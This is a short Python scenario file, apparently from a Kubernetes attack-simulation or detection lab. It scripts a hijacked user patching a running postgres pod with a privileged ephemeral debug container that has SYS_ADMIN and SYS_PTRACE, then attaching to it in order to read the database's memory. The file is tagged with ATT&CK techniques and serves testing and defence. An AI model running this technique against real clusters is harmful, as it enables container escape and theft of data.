"""A privileged debug container is added to a running pod, and attached to."""

from lab.client import STRATEGIC
from lab.story import Scenario, Stage
from lab.streams import attach


def _play(stage: Stage) -> None:
    thief = stage.hijack("dave")
    name = stage.word("debugger")
    container = {"name": name, "image": "busybox:1.36", "stdin": True, "tty": True, "targetContainerName": "postgres"}
    container |= {"securityContext": {"privileged": True, "capabilities": {"add": ["SYS_ADMIN", "SYS_PTRACE"]}}}
    path = "/api/v1/namespaces/data/pods/warehouse-0"
    with stage.step("add the container", thief, "execution", ("C11", "D01", "D09", "N07")):
        body = {"spec": {"ephemeralContainers": [container]}}
        stage.must(thief.patch(f"{path}/ephemeralcontainers", body, STRATEGIC))
    with stage.step("attach", thief, "execution", ("C02", "N07")):
        attach(thief, "data", "warehouse-0", seconds=1.0)


SCENARIO = Scenario(
    "ephemeral-container",
    "A privileged debug container",
    "attack",
    "read the database's memory",
    ("T1609", "T1611"),
    _play,
)
